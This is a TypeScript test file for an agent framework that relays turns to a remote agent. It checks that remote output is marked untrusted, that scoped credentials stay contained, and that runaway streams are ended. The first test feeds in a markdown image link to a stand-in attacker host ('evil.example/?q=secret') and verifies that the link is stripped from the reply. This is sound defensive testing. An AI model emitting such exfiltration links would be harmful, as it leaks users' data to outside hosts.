import assert from "node:assert/strict";
import { fakeHouse, ownerAuthority } from "../../tests/fakes/house.ts";
import { label } from "../core/label.ts";
import type { RemoteEvent } from "../remote/remotes.ts";
import type { RemoteTurns } from "./deps.ts";

/** A remote that plays events and writes down what it was asked. */
function scripted(...events: RemoteEvent[]) {
  const asked: Parameters<RemoteTurns["turn"]>[1][] = [];
  const remotes: RemoteTurns = {
    labelOf: (name) =>
      label("untrusted", ["owner"], { kind: "tool", ref: name, at: 1 }),
    turn: async function* (_name, turn) {
      asked.push(turn);
      for (const event of events) yield await Promise.resolve(event);
    },
  };
  return { asked, remotes };
}

const AGENTS = { main: { remote: "far" } };

Deno.test("a turn elsewhere: only its own words go, and what comes back is untrusted", async () => {
  const { asked, remotes } = scripted(
    { kind: "text", text: "see ![x](https://evil.example/?q=secret) here" },
    {
      kind: "end",
      reason: "done",
      reply: "see ![x](https://evil.example/?q=secret) here",
    },
  );
  await using house = await fakeHouse({ agents: AGENTS, remotes });
  await house.say("first words");
  const events = await house.say("second words");
  assert.deepEqual(asked.map(({ text }) => text), [
    "first words",
    "second words",
  ]);
  assert.notEqual(asked[0]?.runId, asked[1]?.runId);
  assert.equal(asked[0]?.sessionId, asked[1]?.sessionId);
  assert.equal(house.models.names.length, 0, "no model of ours was asked");
  const reply = events.find((event) => event.kind === "reply");
  assert.equal(reply?.model, "remote:far");
  assert.ok(!reply?.text.includes("https://evil.example"), reply?.text);
  const session = await house.store.sessions.find("agent:main:main");
  assert.equal(session?.joined.integrity, "untrusted");
});

Deno.test("a turn elsewhere ends as it ended there, and says where", async (t) => {
  for (const reason of ["error", "budget", "denied", "cancelled"] as const) {
    await t.step(reason, async () => {
      const { remotes } = scripted({
        kind: "end",
        reason,
        reply: "",
        message: "No more today",
      });
      await using house = await fakeHouse({ agents: AGENTS, remotes });
      const end = (await house.say("hi")).at(-1);
      assert.ok(end?.kind === "end");
      assert.deepEqual([end.reason, end.message], [
        reason,
        'On "far": No more today',
      ]);
    });
  }
});

Deno.test("a credential that names its models does not reach a remote it does not name", async () => {
  const { asked, remotes } = scripted();
  await using house = await fakeHouse({ agents: AGENTS, remotes });
  const authority = ownerAuthority({ models: ["fake:model"] });
  const end = (await house.say("hi", { authority })).at(-1);
  assert.ok(end?.kind === "end");
  assert.equal(end.reason, "error");
  assert.equal(asked.length, 0);
});

Deno.test("a turn elsewhere that never stops talking is ended here", async (t) => {
  const page = "x".repeat(65_536);
  const events: RemoteEvent[] = [
    { kind: "text", text: page },
    { kind: "thinking", text: page },
    { kind: "step" },
  ];
  for (const event of events) {
    await t.step(event.kind, async () => {
      let told = 0;
      const { remotes } = scripted();
      remotes.turn = async function* () {
        while (true) { // ends when nobody asks for more
          told++;
          yield await Promise.resolve(event);
        }
      };
      await using house = await fakeHouse({ agents: AGENTS, remotes });
      const end = (await house.say("hi")).at(-1);
      assert.ok(end?.kind === "end");
      assert.equal(end.reason, "error");
      assert.match(end.message ?? "", /longer than/);
      assert.ok(told < 100_000, `${told}`);
    });
  }
});
